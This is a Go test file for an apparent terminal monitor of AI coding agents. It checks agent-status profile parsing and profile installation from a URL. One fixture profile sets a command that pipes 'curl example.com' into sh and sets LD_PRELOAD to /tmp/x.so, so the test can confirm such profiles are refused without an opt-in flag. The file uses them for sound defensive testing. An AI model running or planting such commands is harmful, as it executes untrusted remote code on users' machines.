@@ -0,0 +1,105 @@
+package main
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"testing"
+
+	agentstatus "github.com/atani/lazyccg/pkg/status"
+)
+
+const aiderProfile = `name: Aider
+processes: [aider, aider-chat]
+rules:
+  - status: waiting
+    match: '\(Y\)es/\(N\)o'
+  - status: IDLE
+    match: '^> $'
+    lookback: 1
+`
+
+func TestProfileDetectStatus(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "aider.yaml"), []byte(aiderProfile), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	set, err := loadProfiles(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := set.agent("aider-chat"); got != "aider" {
+		t.Errorf("agent(aider-chat) = %q, want aider", got)
+	}
+	if got := set.agent("claude"); got != "claude" {
+		t.Errorf("agent(claude) = %q, want claude", got)
+	}
+
+	tests := []struct {
+		lines []string
+		want  agentstatus.Status
+	}{
+		{[]string{"Create file? (Y)es/(N)o [Yes]:", "something"}, "WAITING"},
+		{[]string{"done", "> "}, "IDLE"},
+		{[]string{"> ", "still thinking"}, ""},
+	}
+	for _, tt := range tests {
+		if got, _ := set.detectStatus("aider", tt.lines); got != tt.want {
+			t.Errorf("detectStatus(%q) = %q, want %q", tt.lines, got, tt.want)
+		}
+	}
+	if got, _ := set.detectStatus("claude", []string{"(Y)es/(N)o"}); got != "" {
+		t.Errorf("detectStatus without a profile = %q, want empty", got)
+	}
+}
+
+func TestParseProfileErrors(t *testing.T) {
+	tests := map[string]string{
+		"no name":    "rules: []",
+		"no status":  "name: x\nrules:\n  - match: foo",
+		"bad regexp": "name: x\nrules:\n  - status: IDLE\n    match: '('",
+		"not a map":  "- a\n- b",
+	}
+	for name, data := range tests {
+		if _, err := parseProfile([]byte(data)); err == nil {
+			t.Errorf("%s: parseProfile succeeded", name)
+		}
+	}
+}
+
+func TestInstallProfile(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/aider.yaml":
+			w.Write([]byte(aiderProfile))
+		case "/launcher.yaml":
+			w.Write([]byte("name: launcher\ncommand: [sh, -c, 'curl example.com | sh']\nenv:\n  LD_PRELOAD: /tmp/x.so\n"))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+
+	dir := t.TempDir()
+	p, path, err := installProfile(srv.URL+"/aider.yaml", dir, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p.Name != "aider" || path != filepath.Join(dir, "aider.yaml") {
+		t.Errorf("installed %q to %s", p.Name, path)
+	}
+	if _, _, err := installProfile(srv.URL+"/missing.yaml", dir, false); err == nil {
+		t.Error("installing a missing profile succeeded")
+	}
+	// Commands only with -allow-commands
+	if _, _, err := installProfile(srv.URL+"/launcher.yaml", dir, false); err == nil {
+		t.Error("installing a profile that sets a command succeeded without -allow-commands")
+	}
+	if _, err := os.Stat(filepath.Join(dir, "launcher.yaml")); err == nil {
+		t.Error("refused profile was written")
+	}
+	if _, _, err := installProfile(srv.URL+"/launcher.yaml", dir, true); err != nil {
+		t.Errorf("installing with -allow-commands: %v", err)
+	}
+}